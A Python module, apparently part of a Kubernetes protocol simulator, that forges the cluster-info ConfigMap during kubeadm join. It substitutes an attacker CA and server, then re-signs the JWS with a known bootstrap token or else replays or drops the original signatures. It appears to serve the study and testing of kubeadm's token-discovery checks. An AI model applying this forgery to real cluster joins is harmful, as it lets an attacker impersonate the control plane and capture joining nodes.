"""Rewrite the ``kube-public/cluster-info`` ConfigMap the way a man in the middle of ``kubeadm join`` would.

How this works: token discovery trusts cluster-info for two reasons only, a
detached JWS over its ``kubeconfig`` keyed with the bootstrap token's secret,
and (when the node has one) a pin of the CA's public key. The attacker swaps
the kubeconfig for one naming its own CA and its own address. Knowing the
token it re-signs the new bytes, so the JWS check passes and only a pin can
catch it; not knowing the token it can replay the original signatures (which
no longer match: kubeadm's "failed to verify JWS signature") or drop them
(kubeadm then finds no signature for its token id).
Upstream: cmd/kubeadm/app/discovery/token/token.go (what the node checks),
staging/src/k8s.io/cluster-bootstrap/token/jws/jws.go (the signature).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from enum import Enum
from typing import Any, Mapping

from sim.protocol import jws, kubeconfig, tokens
from sim.protocol.constants import CLUSTER_INFO_KUBECONFIG_KEY, JWS_SIGNATURE_KEY_PREFIX
from sim.protocol.errors import go_quote

__all__ = ["Rewrite", "Signatures", "rewrite_cluster_info"]


class Signatures(Enum):
    """Say what the proxy does with the JWS signatures when it cannot re-sign them."""

    REPLAY = "replay"
    DROP = "drop"


@dataclass(frozen=True, slots=True, kw_only=True)
class Rewrite:
    """Hold the forged ConfigMap and a one-line account of what was done to it."""

    configmap: dict[str, Any]
    summary: str


def rewrite_cluster_info(configmap: Mapping[str, Any], *, server: str, ca_pem: bytes, token: str | None,
                         signatures: Signatures = Signatures.REPLAY) -> Rewrite:
    """Return cluster-info with the proxy's CA and server, signed with ``token`` when it is known.

    A ConfigMap without a ``kubeconfig`` key is handed on unchanged: there is
    nothing a joining node would trust in it.
    """
    forged = copy.deepcopy(dict(configmap))
    data: dict[str, str] = dict(forged.get("data") or {})
    if not data.get(CLUSTER_INFO_KUBECONFIG_KEY):
        return Rewrite(configmap=forged, summary="no kubeconfig key: passed through unchanged")
    content = kubeconfig.cluster_info_kubeconfig(server, ca_pem)
    data[CLUSTER_INFO_KUBECONFIG_KEY] = content
    originals = sorted(key for key in data if key.startswith(JWS_SIGNATURE_KEY_PREFIX))
    if token is not None:
        token_id, secret = tokens.parse_token(token)
        for key in originals:
            del data[key]
        data[JWS_SIGNATURE_KEY_PREFIX + token_id] = jws.compute_detached_signature(content, token_id, secret)
        summary = f"re-signed for token id {go_quote(token_id)}"
    elif signatures is Signatures.DROP:
        for key in originals:
            del data[key]
        summary = f"dropped {len(originals)} signature(s)"
    else:
        summary = f"replayed {len(originals)} original signature(s) over the new kubeconfig"
    forged["data"] = data
    return Rewrite(configmap=forged, summary=summary)
